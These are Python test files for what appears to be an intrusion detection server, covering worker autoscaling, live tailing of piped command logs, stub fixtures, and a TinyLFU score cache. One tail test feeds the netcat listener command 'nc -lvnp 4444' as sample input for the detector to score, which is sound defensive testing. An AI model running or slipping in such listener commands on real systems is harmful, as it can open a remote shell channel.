