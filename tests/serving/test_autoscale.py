"""Tests for the autoscaler: pure policy decisions, the tick loop with
cooldown, backend resizing, and the server integration."""

import asyncio

import pytest

from repro.errors import ConfigError
from repro.serving import (
    AutoscaleConfig,
    AutoscaleObservation,
    Autoscaler,
    DetectionServer,
    InlineBackend,
    ServingConfig,
    ServingMetrics,
    ThreadedBackend,
)


def obs(workers=2, backlog=0, batch_latency_ms=10.0, hit_rate=0.0, batches=0):
    return AutoscaleObservation(
        workers=workers,
        backlog=backlog,
        batch_latency_ms=batch_latency_ms,
        hit_rate=hit_rate,
        batches=batches,
    )


def make_autoscaler(policy=None, probe=None, applied=None, metrics=None):
    policy = policy or AutoscaleConfig(enabled=True, min_workers=1, max_workers=8)
    applied = applied if applied is not None else []

    async def apply(target):
        applied.append(target)
        return True

    return Autoscaler(policy, probe or (lambda: obs()), apply, metrics=metrics), applied


class TestDecide:
    def test_steady_state_holds(self):
        scaler, _ = make_autoscaler()
        target, reason = scaler.decide(obs(workers=2, backlog=4))
        assert target == 2
        assert reason == "steady"

    def test_backlog_doubles_the_pool(self):
        scaler, _ = make_autoscaler()
        target, reason = scaler.decide(obs(workers=2, backlog=100))
        assert target == 4
        assert "backlog" in reason

    def test_latency_scales_up(self):
        scaler, _ = make_autoscaler()
        target, reason = scaler.decide(obs(workers=2, batch_latency_ms=500.0))
        assert target == 4
        assert "latency" in reason

    def test_warm_cache_shrinks_the_pool(self):
        """The ROADMAP contract: shrink when the hit rate makes scoring
        parallelism pointless."""
        scaler, _ = make_autoscaler()
        target, reason = scaler.decide(obs(workers=4, hit_rate=0.95))
        assert target == 3
        assert "hit rate" in reason

    def test_backlog_beats_warm_cache(self):
        """A backlog is never left waiting because the cache is warm."""
        scaler, _ = make_autoscaler()
        target, _ = scaler.decide(obs(workers=2, backlog=100, hit_rate=0.99))
        assert target == 4

    def test_stale_prehswap_hit_rate_does_not_shrink(self):
        """The signal is generation-scoped by construction: right after a
        swap the observation carries the cold-cache rate, not the
        lifetime one, so no shrink fires."""
        scaler, _ = make_autoscaler()
        target, reason = scaler.decide(obs(workers=4, hit_rate=0.0))
        assert target == 4
        assert reason == "steady"

    def test_bounds_clamped(self):
        policy = AutoscaleConfig(enabled=True, min_workers=2, max_workers=4)
        scaler, _ = make_autoscaler(policy=policy)
        up, _ = scaler.decide(obs(workers=4, backlog=10_000))
        down, _ = scaler.decide(obs(workers=2, hit_rate=1.0))
        assert up == 4
        assert down == 2

    def test_max_workers_zero_resolves_to_cpu_count(self):
        import os

        scaler, _ = make_autoscaler(policy=AutoscaleConfig(enabled=True, max_workers=0))
        assert scaler.max_workers == (os.cpu_count() or 1)


class TestTick:
    def test_tick_applies_and_records(self):
        metrics = ServingMetrics()
        scaler, applied = make_autoscaler(
            probe=lambda: obs(workers=2, backlog=100), metrics=metrics
        )
        decision = asyncio.run(scaler.tick())
        assert applied == [4]
        assert decision.applied
        assert decision.target == 4
        assert metrics.autoscale_checks == 1
        assert metrics.autoscale_ups == 1
        assert metrics.autoscale_downs == 0

    def test_cooldown_blocks_consecutive_resizes(self):
        policy = AutoscaleConfig(
            enabled=True, min_workers=1, max_workers=8, cooldown_intervals=2
        )
        scaler, applied = make_autoscaler(
            policy=policy, probe=lambda: obs(workers=2, backlog=100)
        )

        async def three_ticks():
            return [await scaler.tick() for _ in range(3)]

        first, second, third = asyncio.run(three_ticks())
        assert applied == [4]  # only the first tick resized
        assert first.applied
        assert not second.applied and "[cooldown]" in second.reason
        assert not third.applied and "[cooldown]" in third.reason

    def test_steady_ticks_do_not_touch_the_backend(self):
        metrics = ServingMetrics()
        scaler, applied = make_autoscaler(probe=lambda: obs(workers=2), metrics=metrics)

        async def two_ticks():
            await scaler.tick()
            await scaler.tick()

        asyncio.run(two_ticks())
        assert applied == []
        assert metrics.autoscale_checks == 2
        assert metrics.autoscale_ups == metrics.autoscale_downs == 0

    def test_stale_batch_latency_does_not_ratchet_the_pool(self):
        """A slow *last* batch before the cache went warm must not keep
        demanding scale-up: with no new batches since the previous tick
        the frozen EWMA is discarded, and the warm cache shrinks the
        pool instead."""
        observations = iter(
            [
                # batches are flowing and slow: scale-up is correct
                obs(workers=2, batch_latency_ms=500.0),
                # cache went warm, batches stopped (same batches total),
                # EWMA is frozen at the old 500ms reading
                obs(workers=4, batch_latency_ms=500.0, hit_rate=0.95),
                obs(workers=3, batch_latency_ms=500.0, hit_rate=0.95),
            ]
        )
        policy = AutoscaleConfig(
            enabled=True, min_workers=1, max_workers=8, cooldown_intervals=0
        )
        scaler, applied = make_autoscaler(policy=policy, probe=lambda: next(observations))

        async def three_ticks():
            return [await scaler.tick() for _ in range(3)]

        first, second, third = asyncio.run(three_ticks())
        assert first.target == 4  # live slow batches: scale up
        assert second.target == 3 and "hit rate" in second.reason  # stale: shrink
        assert third.target == 2
        assert applied == [4, 3, 2]

    def test_new_batches_keep_the_latency_signal_live(self):
        observations = iter(
            [
                obs(workers=2, batch_latency_ms=500.0, batches=10),
                obs(workers=4, batch_latency_ms=500.0, batches=20),  # still scoring
            ]
        )
        policy = AutoscaleConfig(
            enabled=True, min_workers=1, max_workers=8, cooldown_intervals=0
        )
        scaler, applied = make_autoscaler(policy=policy, probe=lambda: next(observations))

        async def two_ticks():
            return [await scaler.tick() for _ in range(2)]

        first, second = asyncio.run(two_ticks())
        assert first.target == 4
        assert second.target == 8  # batches advanced: the reading is live
        assert applied == [4, 8]

    def test_decision_history_is_bounded(self):
        scaler, _ = make_autoscaler(probe=lambda: obs())

        async def many():
            for _ in range(300):
                await scaler.tick()

        asyncio.run(many())
        assert len(scaler.decisions) == 256


class TestBackendResize:
    def test_inline_backend_cannot_resize(self, stub_service):
        backend = InlineBackend(stub_service)
        assert not backend.can_resize
        assert asyncio.run(backend.resize(4)) is False

    def test_threaded_backend_resizes_live(self, stub_service):
        backend = ThreadedBackend(stub_service, workers=2)

        async def scenario():
            await backend.start()
            first = await backend.score(["evil a", "ls b"])
            changed = await backend.resize(4)
            second = await backend.score(["evil a", "ls b"])
            await backend.stop()
            return changed, first, second

        changed, first, second = asyncio.run(scenario())
        assert changed
        assert backend.workers == 4
        assert first == second  # scores unaffected by the pool size

    def test_resize_to_same_size_is_a_noop(self, stub_service):
        backend = ThreadedBackend(stub_service, workers=2)
        assert asyncio.run(backend.resize(2)) is False

    def test_resize_rejects_nonpositive(self, stub_service):
        backend = ThreadedBackend(stub_service, workers=2)
        with pytest.raises(ValueError):
            asyncio.run(backend.resize(0))


class TestServerIntegration:
    def test_autoscaler_reacts_to_load_end_to_end(self, stub_service):
        """A burst of distinct lines through a slow 1-worker threaded
        backend must grow the pool; the resize is visible in
        backend.workers and the control metrics."""
        import time

        class SlowStub(type(stub_service)):
            def score_normalized(self, lines):
                time.sleep(0.02)  # a visible forward pass: backlog builds
                return super().score_normalized(lines)

        slow = SlowStub()
        policy = AutoscaleConfig(
            enabled=True,
            min_workers=1,
            max_workers=4,
            interval_seconds=0.01,
            backlog_per_worker=4,
            cooldown_intervals=0,
        )
        backend = ThreadedBackend(slow, workers=1)
        server = DetectionServer(
            slow,
            backend=backend,
            autoscale=policy,
            max_batch=4,
            max_latency_ms=50,
            cache_size=0,
        )

        async def scenario():
            async with server:
                await asyncio.gather(
                    *(server.submit(f"task {i}", host=f"h{i % 8}") for i in range(64))
                )

        asyncio.run(scenario())
        assert server.autoscaler is not None
        assert server.metrics.autoscale_checks > 0
        assert backend.workers > 1
        assert server.metrics.autoscale_ups >= 1
        assert f"workers={backend.workers}" in server.metrics.backend

    def test_warm_cache_shrinks_pool_end_to_end(self, stub_service):
        policy = AutoscaleConfig(
            enabled=True,
            min_workers=1,
            max_workers=4,
            interval_seconds=0.01,
            shrink_hit_rate=0.5,
            cooldown_intervals=0,
        )
        backend = ThreadedBackend(stub_service, workers=3)
        server = DetectionServer(
            stub_service,
            backend=backend,
            autoscale=policy,
            max_latency_ms=5,
            cache_size=1024,
        )

        async def scenario():
            async with server:
                for _ in range(4):  # same line: ~all hits after the first
                    await server.submit("ls -la", host="h")
                await asyncio.sleep(0.1)

        asyncio.run(scenario())
        assert backend.workers < 3
        assert server.metrics.autoscale_downs >= 1

    def test_unresizable_backend_warns_and_skips(self, stub_service):
        server = DetectionServer(
            stub_service, autoscale=AutoscaleConfig(enabled=True)
        )

        async def scenario():
            with pytest.warns(UserWarning, match="cannot be resized"):
                await server.start()
            await server.stop()

        asyncio.run(scenario())
        assert server.autoscaler is None

    def test_from_config_auto_backend_becomes_resizable(self, stub_service):
        config = ServingConfig.from_dict(
            {"autoscale": {"enabled": True, "min_workers": 2}}
        )
        server = DetectionServer.from_config(stub_service, config, record=False)
        assert isinstance(server.backend, ThreadedBackend)
        assert server.backend.workers == 2

    def test_from_config_auto_multiworker_stays_threaded(self, stub_service):
        """auto + autoscale resolves to threaded at ANY worker count — it
        must not fall through to the process pool (which would demand a
        saved bundle this in-memory service doesn't have)."""
        stub_service.source_dir = None
        config = ServingConfig.from_dict(
            {
                "backend": {"kind": "auto", "workers": 3},
                "autoscale": {"enabled": True},
            }
        )
        server = DetectionServer.from_config(stub_service, config, record=False)
        assert isinstance(server.backend, ThreadedBackend)
        assert server.backend.workers == 3

    def test_dead_control_loop_does_not_abort_shutdown(self, stub_service):
        """If the autoscaler task dies, stop() must still drain shards and
        close sinks before surfacing the failure — queued alerts are
        never silently lost to a control-plane error."""
        from repro.serving import RingBufferSink

        ring = RingBufferSink()
        policy = AutoscaleConfig(enabled=True, interval_seconds=0.01)
        server = DetectionServer(
            stub_service,
            backend=ThreadedBackend(stub_service, workers=2),
            autoscale=policy,
            max_latency_ms=5,
            sinks=[ring],
        )

        async def scenario():
            await server.start()
            await server.submit("evil thing", host="h1")
            server.autoscaler._probe = lambda: (_ for _ in ()).throw(
                RuntimeError("probe exploded")
            )
            await asyncio.sleep(0.05)  # let the loop hit the broken probe
            with pytest.raises(RuntimeError, match="probe exploded"):
                await server.stop()

        asyncio.run(scenario())
        # shutdown completed despite the failure: batchers drained, the
        # alert was delivered, and the pipeline closed cleanly
        assert all(not rt.batcher.running for rt in server.shards)
        assert ring.emitted == 1
        stats = server.sinks.stats()
        assert all(s.submitted == s.delivered for s in stats.values())

    def test_from_config_explicit_inline_with_autoscale_fails_fast(self, stub_service):
        config = ServingConfig.from_dict(
            {"backend": {"kind": "inline"}, "autoscale": {"enabled": True}}
        )
        with pytest.raises(ConfigError, match="cannot autoscale"):
            DetectionServer.from_config(stub_service, config, record=False)


class TestAutoscaleConfig:
    def test_round_trips_losslessly(self):
        config = ServingConfig.from_dict(
            {
                "shards": {"count": 4, "virtual_nodes": 16},
                "autoscale": {
                    "enabled": True,
                    "min_workers": 2,
                    "max_workers": 6,
                    "interval_seconds": 0.5,
                    "backlog_per_worker": 32,
                    "latency_high_ms": 100.0,
                    "shrink_hit_rate": 0.8,
                    "cooldown_intervals": 3,
                },
                "cache": {"size": 512, "admission": "tinylfu"},
            }
        )
        assert ServingConfig.from_dict(config.to_dict()) == config

    def test_validation_names_the_offending_key(self):
        with pytest.raises(ConfigError, match="autoscale.max_workers"):
            AutoscaleConfig(enabled=True, min_workers=4, max_workers=2)
        with pytest.raises(ConfigError, match="autoscale.enabled"):
            ServingConfig.from_dict({"autoscale": {"enabled": "yes"}})
        with pytest.raises(ConfigError, match="shards.count"):
            ServingConfig.from_dict({"shards": {"count": 0}})
        with pytest.raises(ConfigError, match="cache.admission"):
            ServingConfig.from_dict({"cache": {"admission": "arc"}})

    def test_unknown_keys_get_suggestions(self):
        with pytest.raises(ConfigError, match="did you mean 'min_workers'"):
            ServingConfig.from_dict({"autoscale": {"min_worker": 1}})
