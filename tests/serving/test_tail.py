"""Live-tail regression tests: events must be served before EOF.

The ROADMAP bug: ``repro-ids serve --input -`` used to read the stream
to EOF before serving, so an unbounded pipe (``tail -f | repro-ids
serve``) never produced a single verdict.  These tests feed the server
through a real ``os.pipe`` and prove events are scored while the write
end is still open.
"""

import os

import pytest
import threading

from repro.serving import tail_stream
from repro.serving.cli import parse_event


class TestTailStream:
    def test_events_served_before_eof(self, stub_service):
        """The writer holds the pipe open until the first event's result
        arrives — impossible under read-to-EOF semantics (it would
        deadlock; the wait below would time out instead)."""
        read_fd, write_fd = os.pipe()
        reader = os.fdopen(read_fd, "r")
        writer = os.fdopen(write_fd, "w")
        first_result_seen = threading.Event()
        served_before_eof = []

        def feed():
            writer.write("evil first\n")
            writer.flush()
            served_before_eof.append(first_result_seen.wait(timeout=10.0))
            writer.write("ls -la\n")
            writer.close()

        feeder = threading.Thread(target=feed)
        feeder.start()
        results, server = tail_stream(
            stub_service,
            reader,
            concurrency=2,
            max_latency_ms=5,
            on_result=lambda result: first_result_seen.set(),
        )
        feeder.join(timeout=10.0)

        assert served_before_eof == [True], "first event must be scored before EOF"
        assert [r.raw_line for r in results] == ["evil first", "ls -la"]
        assert results[0].is_intrusion and not results[1].is_intrusion
        assert server.metrics.events_total == 2

    def test_limit_stops_an_unbounded_pipe(self, stub_service):
        """With --limit, the tail returns even though the writer never
        closes its end."""
        read_fd, write_fd = os.pipe()
        reader = os.fdopen(read_fd, "r")
        writer = os.fdopen(write_fd, "w")

        def feed():
            for index in range(50):  # far more than the limit
                writer.write(f"cmd {index}\n")
                writer.flush()

        feeder = threading.Thread(target=feed, daemon=True)
        feeder.start()
        try:
            results, _ = tail_stream(
                stub_service, reader, concurrency=2, limit=3, max_latency_ms=5
            )
        finally:
            try:
                writer.close()
            except BrokenPipeError:
                pass
        assert [r.raw_line for r in results] == ["cmd 0", "cmd 1", "cmd 2"]

    def test_blank_lines_and_json_events_with_cli_parser(self, stub_service):
        read_fd, write_fd = os.pipe()
        reader = os.fdopen(read_fd, "r")
        with os.fdopen(write_fd, "w") as writer:
            writer.write("\n")
            writer.write('{"line": "evil json", "host": "web-7"}\n')
            writer.write("   \n")
            writer.write("plain line\n")
        results, _ = tail_stream(
            stub_service, reader, concurrency=2, parse=parse_event, max_latency_ms=5
        )
        assert [(r.raw_line, r.host) for r in results] == [
            ("evil json", "web-7"),
            ("plain line", "-"),
        ]

    def test_broken_stream_fails_loudly(self, stub_service):
        """A reader-side failure (decode error, raising parse) must not
        masquerade as a clean partial run."""
        read_fd, write_fd = os.pipe()
        reader = os.fdopen(read_fd, "r")
        with os.fdopen(write_fd, "w") as writer:
            writer.write("fine\nboom\nnever reached\n")

        def explosive_parse(text):
            if "boom" in text:
                raise ValueError("unparseable input record")
            return parse_event(text)

        with pytest.raises(ValueError, match="unparseable"):
            tail_stream(stub_service, reader, parse=explosive_parse, max_latency_ms=5)

    def test_zero_limit_returns_immediately(self, stub_service):
        read_fd, write_fd = os.pipe()
        reader = os.fdopen(read_fd, "r")
        writer = os.fdopen(write_fd, "w")
        try:
            results, _ = tail_stream(stub_service, reader, limit=0, max_latency_ms=5)
            assert results == []
        finally:
            writer.close()


class TestServeMainTail:
    def test_stdin_is_tailed_not_buffered(self, demo_service, monkeypatch, capsys, tmp_path):
        """serve_main --input - goes through the tail path and a bounded
        pipe still produces the full report."""
        import sys

        from repro.serving.cli import serve_main

        monkeypatch.setattr("repro.serving.demo.build_demo_service", lambda: demo_service)
        read_fd, write_fd = os.pipe()
        reader = os.fdopen(read_fd, "r")
        with os.fdopen(write_fd, "w") as writer:
            writer.write("nc -lvnp 4444\nls -la /tmp\n")
        monkeypatch.setattr(sys, "stdin", reader)

        code = serve_main(["--input", "-", "--max-latency-ms", "5"])

        assert code == 0
        output = capsys.readouterr().out
        assert "processed 2 events" in output
        assert "serving metrics" in output
