"""Shared fixtures for the serving suite.

Most tests drive the server with :class:`StubService` — a deterministic
stand-in exposing exactly the surface :class:`DetectionServer` uses
(``preprocess`` / ``score_normalized`` / ``threshold``) — so the async
machinery is exercised without training a language model.  The
integration module uses the real miniature demo service.
"""

import numpy as np
import pytest


class StubService:
    """Deterministic service stub: score 0.9 for 'evil' lines, 0.1 otherwise."""

    threshold = 0.5

    def __init__(self):
        self.scored_batches: list[list[str]] = []

    def preprocess(self, raw: str) -> str | None:
        line = " ".join(raw.split())
        if not line or line.endswith("'"):  # simulate an unparseable line
            return None
        return line

    def score_normalized(self, lines):
        self.scored_batches.append(list(lines))
        return np.array([0.9 if "evil" in line else 0.1 for line in lines])


class TwoStageStubService(StubService):
    """Stub with a second stage: sequence score is high only when the
    composed window contains at least two 'evil' segments."""

    has_sequence_head = True

    def __init__(self):
        super().__init__()
        self.sequence_batches: list[list[str]] = []

    def score_sequence(self, texts):
        self.sequence_batches.append(list(texts))
        return np.array([0.95 if text.count("evil") >= 2 else 0.2 for text in texts])


@pytest.fixture
def stub_service():
    return StubService()


@pytest.fixture
def two_stage_stub():
    return TwoStageStubService()


@pytest.fixture(scope="session")
def demo_service():
    from repro.serving.demo import build_demo_service

    return build_demo_service()


@pytest.fixture(scope="session")
def two_stage_demo_service():
    """A fresh demo service with a fitted multi-line (sequence) head."""
    from repro.serving.demo import build_two_stage_demo_service

    return build_two_stage_demo_service()


@pytest.fixture(scope="session")
def demo_bundle(demo_service, tmp_path_factory):
    """The demo service saved as a bundle directory (for process workers)."""
    bundle = tmp_path_factory.mktemp("serving") / "bundle"
    demo_service.save(bundle)
    return str(bundle)


@pytest.fixture
def backend_workers(request):
    """Worker count for parallel-backend tests (CI passes ``--workers 2``)."""
    return max(2, request.config.getoption("--workers"))
