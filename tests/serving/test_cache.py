"""Tests for the LRU score cache (and its TinyLFU admission gate)."""

from collections import OrderedDict

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.serving import FrequencySketch, ScoreCache


class TestScoreCache:
    def test_miss_then_hit(self):
        cache = ScoreCache(capacity=4)
        assert cache.get("ls -la") is None
        cache.put("ls -la", 0.2)
        assert cache.get("ls -la") == 0.2
        assert cache.hits == 1
        assert cache.misses == 1

    def test_lru_eviction_order(self):
        cache = ScoreCache(capacity=2)
        cache.put("a", 0.1)
        cache.put("b", 0.2)
        cache.get("a")  # refresh a → b is now LRU
        cache.put("c", 0.3)
        assert "a" in cache
        assert "b" not in cache
        assert "c" in cache
        assert cache.evictions == 1

    def test_put_refreshes_existing_entry(self):
        cache = ScoreCache(capacity=2)
        cache.put("a", 0.1)
        cache.put("b", 0.2)
        cache.put("a", 0.9)  # refresh, not insert — no eviction
        assert len(cache) == 2
        assert cache.evictions == 0
        assert cache.get("a") == 0.9

    def test_capacity_bound_holds(self):
        cache = ScoreCache(capacity=3)
        for index in range(10):
            cache.put(f"line-{index}", float(index))
        assert len(cache) == 3
        assert cache.evictions == 7

    def test_zero_capacity_disables_caching(self):
        cache = ScoreCache(capacity=0)
        cache.put("a", 0.5)
        assert cache.get("a") is None
        assert len(cache) == 0

    def test_hit_rate(self):
        cache = ScoreCache(capacity=4)
        cache.put("a", 0.5)
        cache.get("a")
        cache.get("a")
        cache.get("missing")
        assert cache.hit_rate == pytest.approx(2 / 3)

    def test_clear_keeps_counters(self):
        cache = ScoreCache(capacity=4)
        cache.put("a", 0.5)
        cache.get("a")
        cache.clear()
        assert len(cache) == 0
        assert cache.hits == 1

    def test_negative_capacity_rejected(self):
        with pytest.raises(ValueError):
            ScoreCache(capacity=-1)


class FakeClock:
    """Deterministic monotonic clock for TTL tests."""

    def __init__(self):
        self.now = 0.0

    def advance(self, seconds):
        self.now += seconds

    def __call__(self):
        return self.now


class TestTtlExpiry:
    def test_entry_expires_after_ttl(self):
        clock = FakeClock()
        cache = ScoreCache(capacity=4, ttl_seconds=10.0, clock=clock)
        cache.put("a", 0.7)
        clock.advance(9.9)
        assert cache.get("a") == 0.7
        clock.advance(0.2)  # now 10.1s since the put
        assert cache.get("a") is None
        assert cache.expirations == 1
        assert "a" not in cache  # expired entry was dropped, not kept

    def test_lookup_does_not_refresh_ttl(self):
        """TTL measures staleness since scoring — a popular line must
        still re-score once its score is ttl_seconds old."""
        clock = FakeClock()
        cache = ScoreCache(capacity=4, ttl_seconds=10.0, clock=clock)
        cache.put("a", 0.7)
        for _ in range(5):
            clock.advance(3.0)
            cache.get("a")
        # 15s after the put: expired despite constant lookups
        assert cache.get("a") is None

    def test_put_refreshes_ttl(self):
        clock = FakeClock()
        cache = ScoreCache(capacity=4, ttl_seconds=10.0, clock=clock)
        cache.put("a", 0.7)
        clock.advance(8.0)
        cache.put("a", 0.8)  # re-scored: stamp resets
        clock.advance(8.0)
        assert cache.get("a") == 0.8

    def test_no_ttl_never_expires(self):
        clock = FakeClock()
        cache = ScoreCache(capacity=4, clock=clock)
        cache.put("a", 0.7)
        clock.advance(1e9)
        assert cache.get("a") == 0.7
        assert cache.expirations == 0

    def test_expiry_counts_as_miss(self):
        clock = FakeClock()
        cache = ScoreCache(capacity=4, ttl_seconds=1.0, clock=clock)
        cache.put("a", 0.7)
        clock.advance(2.0)
        cache.get("a")
        assert cache.misses == 1
        assert cache.hits == 0

    @pytest.mark.parametrize("ttl", [0, -1.5])
    def test_non_positive_ttl_rejected(self, ttl):
        with pytest.raises(ValueError, match="ttl_seconds"):
            ScoreCache(capacity=4, ttl_seconds=ttl)


class TestGenerationInvalidation:
    def test_bump_purges_everything_and_counts(self):
        cache = ScoreCache(capacity=8)
        for index in range(5):
            cache.put(f"line-{index}", float(index))
        purged = cache.bump_generation()
        assert purged == 5
        assert len(cache) == 0
        assert cache.invalidated == 5
        assert cache.generation == 1

    def test_post_bump_lookup_misses(self):
        cache = ScoreCache(capacity=4)
        cache.put("a", 0.3)
        cache.bump_generation()
        assert cache.get("a") is None
        assert cache.misses == 1

    def test_stale_put_rejected(self):
        """A batch scored before a swap must not poison the new generation."""
        cache = ScoreCache(capacity=4)
        cache.bump_generation()
        cache.put("a", 0.3, generation=0)  # scored by the retired model
        assert "a" not in cache
        assert cache.stale_puts == 1
        cache.put("a", 0.4, generation=1)  # current generation: accepted
        assert cache.get("a") == 0.4

    def test_lookup_returns_score_and_generation(self):
        cache = ScoreCache(capacity=4)
        cache.bump_generation()
        cache.put("a", 0.6)
        assert cache.lookup("a") == (0.6, 1)


class TestGenerationCounters:
    def test_generation_hit_rate_resets_on_swap(self):
        """The lifetime hit rate keeps advertising the purged pre-swap
        cache; the per-generation split must not."""
        cache = ScoreCache(capacity=8)
        cache.get("a")  # initial miss
        cache.put("a", 0.5)
        for _ in range(9):
            cache.get("a")
        assert cache.hit_rate == pytest.approx(0.9)  # 9 hits, 1 initial miss
        cache.bump_generation()
        assert cache.generation_hits == 0 and cache.generation_misses == 0
        assert cache.generation_hit_rate == 0.0
        cache.get("a")  # cold after the purge
        assert cache.generation_misses == 1
        assert cache.generation_hit_rate == 0.0
        # lifetime figures still include the pre-swap warmth
        assert cache.hit_rate > 0.8

    def test_generation_counters_track_current_generation_only(self):
        cache = ScoreCache(capacity=8)
        cache.get("a")
        cache.bump_generation()
        cache.put("a", 0.5)
        cache.get("a")
        cache.get("b")
        assert (cache.generation_hits, cache.generation_misses) == (1, 1)
        assert (cache.hits, cache.misses) == (1, 2)


class TestFrequencySketch:
    def test_estimate_tracks_recorded_accesses(self):
        sketch = FrequencySketch(capacity=16)
        assert sketch.estimate("ls") == 0
        for _ in range(5):
            sketch.record("ls")
        assert sketch.estimate("ls") >= 5  # count-min over-estimates only
        assert sketch.estimate("never-seen") == 0

    def test_aging_halves_counters(self):
        sketch = FrequencySketch(capacity=16, sample_size=100)
        for _ in range(99):
            sketch.record("hot")
        assert sketch.estimate("hot") == 99
        sketch.record("hot")  # 100th access triggers the aging step
        assert sketch.ages == 1
        assert sketch.estimate("hot") == 50

    def test_deterministic_across_instances(self):
        a, b = FrequencySketch(capacity=16), FrequencySketch(capacity=16)
        for key in ("x", "y", "x"):
            a.record(key)
            b.record(key)
        assert a.estimate("x") == b.estimate("x")
        assert a.estimate("y") == b.estimate("y")

    def test_vectorized_age_matches_per_byte_halving(self):
        # the numpy aging pass must be byte-for-byte the old Python loop
        import random

        sketch = FrequencySketch(capacity=64)
        rng = random.Random(7)
        keys = [f"cmd --flag {rng.randrange(500)}" for _ in range(5_000)]
        estimates_before = {}
        for key in keys:
            sketch.record(key)
        for key in set(keys):
            estimates_before[key] = sketch.estimate(key)
        reference_rows = [bytes(byte // 2 for byte in row) for row in sketch._rows]
        additions_before = sketch._additions
        sketch._age()
        assert [bytes(row) for row in sketch._rows] == reference_rows
        assert sketch._additions == additions_before // 2
        assert sketch.ages == 1
        for key, before in estimates_before.items():
            assert sketch.estimate(key) == before // 2

    def test_saturated_counters_age_like_any_other(self):
        sketch = FrequencySketch(capacity=1, sample_size=10_000)
        for _ in range(300):  # saturates at the 8-bit cap (255)
            sketch.record("hot")
        assert sketch.estimate("hot") == 255
        sketch._age()
        assert sketch.estimate("hot") == 127


class TestTinyLfuAdmission:
    def test_one_hit_wonders_cannot_displace_the_hot_set(self):
        cache = ScoreCache(capacity=4, admission="tinylfu")
        hot = [f"hot-{i}" for i in range(4)]
        for line in hot:  # admit while below capacity
            cache.lookup(line)
            cache.put(line, 0.1)
        for line in hot * 5:  # build up frequency
            cache.lookup(line)
        for index in range(50):  # a scan of one-off lines
            line = f"scan-{index}"
            cache.lookup(line)
            cache.put(line, 0.2)
        assert all(line in cache for line in hot)
        assert cache.admission_rejections == 50
        assert cache.evictions == 0

    def test_plain_lru_is_displaced_by_the_same_scan(self):
        cache = ScoreCache(capacity=4, admission="lru")
        hot = [f"hot-{i}" for i in range(4)]
        for line in hot:
            cache.lookup(line)
            cache.put(line, 0.1)
        for line in hot * 5:
            cache.lookup(line)
        for index in range(50):
            line = f"scan-{index}"
            cache.lookup(line)
            cache.put(line, 0.2)
        assert not any(line in cache for line in hot)
        assert cache.admission_rejections == 0

    def test_recurring_candidate_eventually_admitted(self):
        cache = ScoreCache(capacity=2, admission="tinylfu")
        for line in ("a", "b"):
            cache.lookup(line)
            cache.put(line, 0.1)
        # "c" keeps coming back: once its sketch frequency beats the LRU
        # victim's, it must displace it
        for _ in range(5):
            cache.lookup("c")
        cache.put("c", 0.3)
        assert "c" in cache

    def test_refresh_of_resident_line_is_never_gated(self):
        cache = ScoreCache(capacity=2, admission="tinylfu")
        for line in ("a", "b"):
            cache.lookup(line)
            cache.put(line, 0.1)
        cache.put("a", 0.9)  # refresh, not insert
        assert cache.get("a") == 0.9
        assert cache.admission_rejections == 0

    def test_admission_survives_generation_bump(self):
        """The sketch tracks traffic, not model output: popularity
        earned before a swap still wins admission after it."""
        cache = ScoreCache(capacity=2, admission="tinylfu")
        for _ in range(10):
            cache.lookup("hot")
        cache.put("hot", 0.5)
        cache.bump_generation()
        cache.put("hot", 0.6)  # readmitted into the empty post-swap cache
        cache.lookup("cold-1")
        cache.put("cold-1", 0.1)
        cache.lookup("cold-2")
        cache.put("cold-2", 0.1)  # full cache; hot is frequency-protected
        assert "hot" in cache

    def test_unknown_admission_policy_rejected(self):
        with pytest.raises(ValueError, match="admission"):
            ScoreCache(capacity=4, admission="arc")

    def test_zipf_trace_hit_rate_not_worse_than_lru(self):
        """On a Zipf-with-noise trace the frequency gate must serve at
        least as many hits as plain LRU (the benchmark asserts the same
        on the full serving path)."""
        import numpy as np

        rng = np.random.default_rng(7)
        zipf = rng.zipf(1.3, size=6000) % 2000
        noise = rng.integers(10_000, 60_000, size=2000)
        trace = [f"cmd-{v}" for v in np.concatenate([zipf, noise])]
        rng.shuffle(trace)

        def run(admission):
            cache = ScoreCache(capacity=128, admission=admission)
            for line in trace:
                if cache.get(line) is None:
                    cache.put(line, 0.5)
            return cache.hit_rate

        assert run("tinylfu") >= run("lru")


class _CacheModel:
    """Executable specification of ScoreCache: plain OrderedDict LRU with
    generation stamps.  The property test replays arbitrary op sequences
    against both and demands identical observable state."""

    def __init__(self, capacity):
        self.capacity = capacity
        self.entries = OrderedDict()
        self.generation = 0
        self.hits = self.misses = self.evictions = 0
        self.invalidated = self.stale_puts = 0

    def get(self, key):
        if key not in self.entries:
            self.misses += 1
            return None
        self.entries.move_to_end(key)
        self.hits += 1
        return self.entries[key][0]

    def put(self, key, score, generation=None):
        if self.capacity == 0:
            return
        generation = self.generation if generation is None else generation
        if generation != self.generation:
            self.stale_puts += 1
            return
        if key in self.entries:
            self.entries.move_to_end(key)
        self.entries[key] = (score, generation)
        if len(self.entries) > self.capacity:
            self.entries.popitem(last=False)
            self.evictions += 1

    def bump(self):
        self.generation += 1
        self.invalidated += len(self.entries)
        self.entries.clear()


_KEYS = st.integers(min_value=0, max_value=7).map(lambda i: f"line-{i}")
_OPS = st.lists(
    st.one_of(
        st.tuples(st.just("put"), _KEYS, st.floats(0, 1, allow_nan=False)),
        st.tuples(st.just("put_stale"), _KEYS, st.floats(0, 1, allow_nan=False)),
        st.tuples(st.just("get"), _KEYS),
        st.tuples(st.just("swap")),
    ),
    max_size=60,
)


class TestCacheProperties:
    @settings(max_examples=200, deadline=None)
    @given(capacity=st.integers(min_value=0, max_value=5), ops=_OPS)
    def test_matches_reference_model_under_arbitrary_interleavings(self, capacity, ops):
        cache = ScoreCache(capacity)
        model = _CacheModel(capacity)
        gets = 0
        for op in ops:
            if op[0] == "put":
                cache.put(op[1], op[2])
                model.put(op[1], op[2])
            elif op[0] == "put_stale":
                # a write stamped with the previous generation (in-flight
                # batch that finished after a swap)
                cache.put(op[1], op[2], generation=cache.generation - 1)
                model.put(op[1], op[2], generation=model.generation - 1)
            elif op[0] == "get":
                gets += 1
                assert cache.get(op[1]) == model.get(op[1])
            else:
                assert cache.bump_generation() == len(model.entries)
                model.bump()
            # capacity invariant holds after every single operation
            assert len(cache) <= max(capacity, 0)
            # LRU order (and contents) match the reference exactly
            # (the cache also stamps each entry with a TTL clock reading,
            # which the untimed reference model doesn't track)
            assert [
                (line, entry[:2]) for line, entry in cache._entries.items()
            ] == list(model.entries.items())
